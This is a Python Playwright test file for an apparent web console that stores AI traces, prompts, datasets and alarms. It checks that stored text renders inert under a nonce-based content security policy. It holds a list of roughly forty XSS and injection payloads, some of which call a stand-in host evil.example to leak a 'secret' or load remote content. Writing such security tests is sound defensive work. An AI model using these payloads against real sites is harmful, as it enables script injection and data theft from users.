"""What was stored by others is text on every page: none of it runs, loads anything or steers the page.

Loaded in a real browser; that nothing ran is also checked by the fixture `visit`: no dialog, no script error, nothing
the policy had to stop, no request to anywhere else.
"""

from collections.abc import Callable, Iterator, Sequence
from pathlib import Path
from typing import TYPE_CHECKING, Any
from urllib.parse import quote

import pytest
from msgspec.structs import replace
from tests.store.test_alarms import alarm
from tests.surfaces.console.conftest import APPLICATION, address, opened, seed
from tests.surfaces.console.made import MS, Talk, call, trace
from tests.surfaces.http.conftest import Live, write

from regista.core.evaluation import Estimate, Report, Slice
from regista.core.nouns import Citation, Evidence, Feedback, Span, Trace
from regista.data import dataset
from regista.data.dataset import Example, Lineage
from regista.store import connect, evaluations, prompts
from regista.store.alarms import open_alarm
from regista.store.conversations import SessionRow, TurnRow

if TYPE_CHECKING:
    from playwright.sync_api import Page

RUN = "window.ran=1"
PAYLOADS = (
    f"<script>{RUN}</script>",
    f"<script type=module>{RUN}</script>",
    f"</title><script>{RUN}</script>",
    f"</textarea><script>{RUN}</script>",
    f"</pre></td></tr></table><script>{RUN}</script>",
    f"--><script>{RUN}</script><!--",
    f"]]><script>{RUN}</script>",
    f"<img src=x onerror={RUN}>",
    f'"><img src=x onerror="{RUN}">',
    f"'><img src=x onerror='{RUN}'>",
    "![tracker](http://evil.example/pixel.png?q=secret)",
    "<img src=http://evil.example/pixel.png>",
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<body onload={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<details open ontoggle={RUN}>",
    f"<video><source onerror={RUN}>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<iframe src=javascript:parent.{RUN}></iframe>",
    f"<object data=javascript:{RUN}></object>",
    f'<a href="javascript:{RUN}" autofocus>click</a>',
    f"javascript:{RUN}",
    f'" onmouseover="{RUN}" x="',
    f"' autofocus onfocus={RUN} x='",
    "<base href=http://evil.example/>",
    "<link rel=stylesheet href=http://evil.example/x.css>",
    "<style>@import url(http://evil.example/x.css);</style>",
    "<meta http-equiv=refresh content='0;url=http://evil.example/'>",
    "<form action=http://evil.example/><button autofocus>go</button></form>",
    '<div hx-get="/console/login" hx-trigger="load" hx-target="body">x</div>',
    f"<div hx-on::load='{RUN}' hx-vals='js:{RUN}' data-hx-get=/console hx-trigger=load>x</div>",
    '<b hx-sse:connect="http://evil.example/sse" hx-nonce="guess">x</b>',
    f"<template><script>{RUN}</script></template><hx-partial hx-target=body>x</hx-partial>",
    "{{ 7 * 7 }}{% for x in frame %}{{ x }}{% endfor %}${7*7}",
    f"a\n\nevent: x\ndata: <script>{RUN}</script>\n\n",
    f"\u202e<script>{RUN}</script>\u2066\u0000\x1b[2J",
    f"<scr\u0000ipt>{RUN}</scr\u0000ipt>",
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={RUN}&gt;'>",
    f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-",
)

MADE = "script, img, iframe, base, style, object, meta, video, details[ontoggle], [onerror], [onload]"
FOREIGN = f"main :is({MADE})"
"""Elements that no page has, and some payload would make."""

TEXTS = (
    *("application", "variant", "model", "tenant", "error", "cached", "price_version", "question", "answer", "key"),
    "user",
)
"""The fields of a trace that are text."""


def infected(n: int, text: str) -> Trace:
    """A trace with the text in every field that is one."""
    decided = {"policy": text, "runner_up": text, "unfit": {text: text}, "notes": [text], text: {text: [text]}}
    decided |= {"steps": [{"policy": text, "model": text, "reason": text, "scores": {text: 0.5}}]}
    hits = [{"document": text, "start": text, "end": text, "score": text, "text": text}]
    made = trace(n, status="error")
    names: dict[str, Any] = dict.fromkeys(("biller", "model", "reason", "cause", "status"), text)
    said: dict[str, Any] = dict.fromkeys(TEXTS, text)
    if n % 2:
        said["error"] = ""  # a list shows the error in the place of the answer
    return replace(
        made,
        **said,
        status=("error", "ok", text)[n % 3],
        citations=(Citation(text, 0, 1, text, 1),),
        spans=(
            Span(text, text, -1, 0, 900 * MS, text, text, decided),
            Span("route", text, 0, 0, MS, text, text, decided),
            Span("retrieve", text, 0, 0, MS, text, text, {"hits": hits}),
            Span(
                "tools", text, 0, 0, MS, text, text, {"calls": [{"name": text, "arguments": text}], "results": [text]}
            ),
        ),
        calls=(replace(call(made.started_ns, "error"), **names),),
    )


def thought(texts: Sequence[str]) -> list[Feedback]:
    """Feedback on each of those traces, with the text wherever it may have one."""
    of_kinds: list[Feedback] = []
    for n, text in enumerate(texts, 1):
        words = (Evidence(trace(n).id, "question", 0, 1, text),)
        for kind in ("comment", "label", "signal", "correction"):
            given = Feedback(kind, "user", n, trace(n).id, name=text, text=text, by=text, evidence=words)
            of_kinds.append(given)
    return of_kinds


def talked(texts: Sequence[str]) -> list[Talk]:
    """Each of those traces as the one turn of a conversation, whose names are the text."""
    talks: list[Talk] = []
    for n, text in enumerate(texts, 1):
        of = infected(n, text)
        turn = bytes.fromhex(of.id) + of.started_ns.to_bytes(8)
        row = TurnRow(turn, turn, of.started_ns, of.started_ns, text, text, turn, refused=False)
        on_all = Feedback("comment", "user", n, session=of.id, text=text, by=text)
        talks.append(Talk([of], [row], SessionRow(turn, text, text, of.started_ns), [on_all]))
    return talks


def fired(texts: Sequence[str]) -> list[Trace]:
    """Traces of the application in which a guardrail found the text, and asked again what is in an infected trace."""
    made: list[Trace] = []
    for n, text in enumerate(texts, 1):
        found = Span("guard request", text, -1, 0, MS, "mask", f"pii: 1 {text}; {text}: 2 {text}")
        again = Span("replay", trace(n).id, -1, 0, MS, text, text, {"started_ns": text, "turns": text})
        said = f"{text} and more"
        made.append(
            replace(infected(n, text), id=trace(n + 5000).id, application="shop", answer=said, spans=(found, again))
        )
    return made


def infect_evaluations(live: Live) -> None:
    """A run whose names and sentences are payloads, whole and not."""
    database = connect(f"sqlite://{live.folder / '.regista' / 'regista.db'}")
    for n, text in enumerate(PAYLOADS[:12]):
        names = (f"run{n}", "shop", text, text, text, text, text)
        run = evaluations.Run(*names, 1, text, {text: text}, {}, cases=9, started_ns=10**18 + n)
        evaluations.begin(database, run)
        mean = Estimate(text, 0.5, 0.4, 0.6, 0.95, text, 9, 9, 9, 0, 0, 0.5, 0.5, warnings=(text,))
        report = Report(
            *(run.id, text, text, "shop", text, text, text, 9, 1, 10**18, 10**9, 0, text, (mean,)),
            slices=(Slice(text, text, (mean,)),),
            warnings=(text,),
        )
        if n % 3:
            evaluations.finish(database, report)
    database.close()


def infect_prompts(folder: Path) -> None:
    """Prompts whose names and texts are payloads, served by variants that are called so."""
    database = connect(f"sqlite://{folder / '.regista' / 'regista.db'}")
    for n, text in enumerate(PAYLOADS):
        for at in range(2):
            said = {text: (f"{text}{at}", f"same\n{text}\n{at}"), "answer": (f"{text}{at}", f"{text}\n{at}")}
            prompts.keep(database, "shop", (f"{text}{at}", text), said, "answer", 10**18 + n + at)
    database.close()


def infect_datasets(folder: Path) -> None:
    """A dataset of payloads wherever an example and its lineage have text."""
    examples = [
        Example(f"{n}", f"{n} {text}", text, text, text, text, text, 10**18, text) for n, text in enumerate(PAYLOADS)
    ]
    of = Lineage("odd", "", PAYLOADS[0], 10**18, 0, {PAYLOADS[1]: PAYLOADS[2]}, {PAYLOADS[3]: 1}, {PAYLOADS[4]: 1})
    dataset.keep(folder, examples, replace(of, parent=PAYLOADS[5]))


def infect_alarms(folder: Path) -> None:
    """Open alarms of features, places and values that are payloads."""
    database = connect(f"sqlite://{folder / '.regista' / 'regista.db'}")
    for n in range(8):
        aspect, name, before, now, more = PAYLOADS[5 * n : 5 * n + 5]
        texts = {"aspect": aspect, "name": name, "before": before, "now": now, "more": more}
        open_alarm(database, alarm(**texts, id=f"{n}{more}", examples=(more,), opened_ns=n))
    database.close()


@pytest.fixture(scope="module")
def live(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Live]:
    folder = tmp_path_factory.mktemp("xss") / "shop"
    guarded = f'{APPLICATION}[guardrails]\nrequest = ["pii"]\n'
    seed(write(folder, guarded), fired(PAYLOADS), thought(PAYLOADS), talked(PAYLOADS))
    infect_prompts(folder)
    infect_datasets(folder)
    infect_alarms(folder)
    server = Live(folder)
    infect_evaluations(server)
    yield server
    server.stop()


def test_there_are_many_payloads() -> None:
    assert len(set(PAYLOADS)) >= 30


@pytest.mark.parametrize(
    "path",
    [
        *("/console", "/console?range=7d", "/console/traces", "/console/traces?status=error", "/console/models"),
        *("/console/evaluations", "/console/evaluations/run0", "/console/evaluations/run1", "/console/traces?tables=1"),
        *("/console/review", "/console/review/answers?by=ann"),
        *("/console/conversations", "/console/guardrails", f"/console/traces?user={quote(PAYLOADS[0])}"),
        *("/console/comparison", "/console/datasets", "/console/datasets/odd", "/console/datasets/odd?from=25"),
        *("/console/prompts", "/console/prompts/answer", "/console/prompts/answer/playground"),
    ],
)
def test_lists_of_what_others_stored_run_nothing(visit: "Callable[[Live], Page]", live: Live, path: str) -> None:
    page = visit(live)
    stays(page, live, path)


@pytest.mark.parametrize("place", range(0, len(PAYLOADS), 7))
def test_a_trace_of_what_others_stored_runs_nothing(visit: "Callable[[Live], Page]", live: Live, place: int) -> None:
    page = visit(live)
    for n, text in list(enumerate(PAYLOADS, 1))[place : place + 7]:
        stays(page, live, f"/console/traces/{trace(n).id}")
        shown = page.locator("pre.text").first.text_content() or ""
        assert text.strip("\n\u0000\u202e")[:5].replace("\u0000", "␀") in shown, "It is there, as text."


@pytest.mark.parametrize("place", range(0, len(PAYLOADS), 7))
def test_a_conversation_and_a_replay_of_what_others_stored_run_nothing(
    visit: "Callable[[Live], Page]", live: Live, place: int
) -> None:
    page = visit(live)
    for n, text in list(enumerate(PAYLOADS, 1))[place : place + 7]:
        for path in (f"/console/conversations/{trace(n).id}", f"/console/replays/{trace(n + 5000).id}"):
            stays(page, live, path)
            shown = page.locator("pre.text").last.text_content() or ""
            assert text.strip("\n\u0000\u202e")[:5].replace("\u0000", "␀") in shown.replace(" [only now] ", ""), (
                "It is text."
            )


def test_a_prompt_of_what_others_stored_runs_nothing(visit: "Callable[[Live], Page]", live: Live) -> None:
    page = visit(live)
    for text in PAYLOADS:
        if "\x00" not in text and not text.startswith("/"):
            page.goto(f"{live.url}/console/prompts/{quote(text, safe='')}")
            assert page.evaluate("window.ran") is None and page.locator(FOREIGN).count() == 0
            assert page.locator(".diff .added").count() == 1


def test_what_is_tried_in_the_playground_runs_nothing(visit: "Callable[[Live], Page]", live: Live) -> None:
    page = visit(live)
    for text in PAYLOADS:
        page.goto(f"{live.url}/console/prompts/answer/playground")
        told = text.replace("\x00", "")
        page.get_by_label("question").fill(told)
        page.get_by_label("prompt of A").fill("{{role 'user'}}\n{{question}}\n" + told.replace("{", ""))
        page.get_by_label("model of B").select_option("echo/mirror")
        page.get_by_label("prompt of B").fill(told + "{{")
        page.get_by_role("button", name="Ask").click()
        page.get_by_role("alert").first.wait_for()
        assert page.evaluate("window.ran") is None and page.locator(FOREIGN).count() == 0
        assert page.get_by_label("answer 1 of A").count() == 1 and page.url.startswith(live.url)


@pytest.mark.parametrize(
    "path",
    [
        f"/console/{name}"
        for name in (
            *("traces", "models", "evaluations", "conversations", "guardrails", "nothing", "traces/x"),
            *("comparison", "datasets/odd"),
        )
    ]
    + ["/console"],
)
def test_what_an_address_says_runs_nothing_either(visit: "Callable[[Live], Page]", live: Live, path: str) -> None:
    page = visit(live)
    for text in (PAYLOADS[0], PAYLOADS[8], PAYLOADS[24]):
        for name in (
            "text",
            "id",
            "model",
            "application",
            "status",
            "range",
            "after",
            "suite",
            "since",
            "signal",
            "trace",
            "turn",
            "baseline",
            "cases",
            "dataset",
            "added",
        ):
            page.goto(f"{live.url}{path}?{name}={encoded(text)}")
            assert page.evaluate("window.ran") is None
    page.goto(f"{live.url}/console/login?ticket={encoded(PAYLOADS[8])}&next={encoded(PAYLOADS[23])}")
    assert page.evaluate("window.ran") is None


def test_the_live_tail_brings_text_too(visit: "Callable[[Live], Page]", live: Live) -> None:
    page = visit(live)
    page.goto(f"{live.url}/console/traces?live=1")
    for text in PAYLOADS:
        live.ask("shop", text)
    page.locator("tr.fresh").nth(len(PAYLOADS) - 1).wait_for(state="attached")
    assert page.evaluate("window.ran") is None and "/console/traces?live=1" in page.url
    assert page.locator(FOREIGN).count() == 0


def test_every_one_of_these_pages_has_its_policy(live: Live) -> None:
    with opened(live) as client:
        for path in ("/console", "/console/traces", "/console/evaluations/run1", f"/console/traces/{trace(1).id}"):
            assert "script-src 'nonce-" in client.get(path).headers["content-security-policy"]


def test_the_check_itself_sees_a_script_that_runs(visit: "Callable[[Live], Page]", live: Live) -> None:
    page = visit(live)
    page.evaluate("() => { window.ran = 1 }")
    assert page.evaluate("window.ran") == 1


def stays(page: "Page", live: Live, path: str) -> None:
    """Go to a page, touch what is on it, and find that nothing ran and nothing led away."""
    answer = page.goto(live.url + path)
    assert (
        answer is not None
        and answer.status == 200
        and "script-src 'nonce-" in answer.headers["content-security-policy"]
    )
    page.keyboard.press("j")
    page.mouse.move(400, 300)
    page.mouse.move(700, 500)
    for summary in page.locator("details summary").all()[:3]:
        summary.click()
    page.wait_for_timeout(120)
    assert page.evaluate("window.ran") is None
    assert page.url.startswith(live.url + path.partition("?")[0])
    foreign = (
        "main script, main img, main iframe, main base, main style, main object, main meta, main [onerror], [onload]"
    )
    assert page.locator(foreign).count() == 0
    assert page.locator('a[href^="javascript:" i]').count() == 0
    assert address(live)


def encoded(text: str) -> str:
    return quote(text.replace("\x00", ""))
